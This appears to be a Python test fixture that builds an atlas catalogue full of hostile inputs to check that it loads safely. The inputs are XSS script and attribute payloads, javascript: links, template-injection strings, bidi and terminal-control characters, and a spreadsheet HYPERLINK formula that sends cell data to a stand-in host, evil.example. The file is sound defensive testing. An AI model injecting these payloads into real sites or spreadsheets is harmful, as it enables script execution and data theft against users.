"""An atlas whose document, names and facts contain scripts, markup and formulas. It loads without an error."""

from pathlib import Path

from tests.commands import ROOT
from tests.factories import (
    cable_route_table,
    document_table,
    fact_table,
    local_text,
    place_table,
    place_tables,
    project_table,
    railway_table,
    route_table,
    speaker_table,
    write_catalogue,
)

OVERRIDE, ISOLATE, NO_WIDTH, BELL, ESCAPE = "\u202e", "\u2067", "\u200b", "\x07", "\x1b"
SIGNS = (OVERRIDE, ISOLATE, NO_WIDTH, BELL, ESCAPE)
TAG = "<script>window.pwned=1</script>"
END = "</script><img src=x onerror=window.pwned=1>"
ATTRIBUTE = "\"'><b onmouseover=window.pwned=1 style=position:fixed>x</b>"
LINK = "[click](javascript:window.pwned=1) <a href=javascript:window.pwned=1>"
FORMULA = '=HYPERLINK("http://evil.example/"&A1;"x")'
TEXT_SIGNS = f"gəmi {OVERRIDE}drawkcab{ISOLATE} yük{NO_WIDTH}lü {BELL}{ESCAPE}[2J dayandı"
COMMENT = "<!-- ]]> --> <?xml?> &lt;script&gt; &#60;svg onload=window.pwned=1&#62; {{7*7}} ${7*7}"
QUOTES = {
    "tag": TAG, "end": END, "attribute": ATTRIBUTE, "link": LINK, "formula": FORMULA, "signs": TEXT_SIGNS,
    "comment": COMMENT,
}  # fmt: skip
"""The quotation of each fact, by its id."""
ABOUT = ["cable", "railway", "north-line", "baku"]
TEXT = "".join(f"Səfir dedi: {quote}.\n" for quote in QUOTES.values())


def write_hostile(root: Path) -> Path:
    """Write the atlas to ``root``, with the real basemap and assets; return ``root``."""
    facts = [
        fact_table(id=name, quote=quote, statement=in_all_languages(ATTRIBUTE), about=ABOUT)
        for name, quote in QUOTES.items()
    ]
    header = document_table(
        title=END, titles=in_all_languages(TAG), publisher=in_all_languages(LINK), file="seeds/interview.txt"
    )
    places = [place_table(names=in_all_languages(f"Baku {TAG}"), source=LINK)]
    write_catalogue(
        root,
        speakers=[speaker_table(names=in_all_languages(FORMULA), role=in_all_languages(TAG))],
        documents=[(header, TEXT, facts)],
        projects=[
            project_table(
                names=in_all_languages(FORMULA),
                summary=in_all_languages(END),
                aliases=[TAG, LINK],
                status={"value": "construction", "basis": "stated", "as_of": "2025-12", "fact": "tag"},
            ),
            railway_table(names=in_all_languages(f"+{END}")),
        ],
        routes=[
            route_table(names=in_all_languages(f"@{ATTRIBUTE}"), note=in_all_languages(TAG)),
            cable_route_table(names=in_all_languages(f"-{TAG}")),
        ],
        places=sorted(
            [*places, *(table for table in place_tables() if table["id"] != "baku")], key=lambda place: place["id"]
        ),
    )
    (root / "data/basemap").symlink_to(ROOT / "data/basemap")
    (root / "assets").symlink_to(ROOT / "assets")
    return root


def in_all_languages(text: str) -> dict[str, str]:
    """The same text in every language. The Arabic one needs Arabic letters too."""
    return local_text(text, text, f"{text} نص")
